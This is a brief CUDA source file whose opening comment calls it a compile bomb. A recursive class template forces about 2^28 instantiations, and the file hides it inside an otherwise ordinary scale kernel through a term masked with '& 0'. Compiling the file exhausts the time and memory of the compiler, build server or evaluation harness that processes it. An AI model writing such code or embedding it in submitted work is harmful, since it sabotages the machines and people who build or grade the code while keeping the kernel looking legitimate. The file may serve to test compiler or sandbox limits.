// A compile bomb: 2^28 distinct class template instantiations (each T<N, K> names two more),
// within the instantiation depth limit; the front end's time and memory grow without end.
template <int N, unsigned K>
struct T {
  static constexpr unsigned v = T<N - 1, K * 2>::v ^ T<N - 1, K * 2 + 1>::v;
};
template <unsigned K>
struct T<0, K> {
  static constexpr unsigned v = K;
};

__global__ void scale_kernel(const float* x, float* y, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = 2.0f * x[i] + static_cast<float>(T<28, 1>::v & 0);
}
namespace ops {
void launch_scale(const float* x, float* y, int n) { scale_kernel<<<(n + 255) / 256, 256>>>(x, y, n); }
}
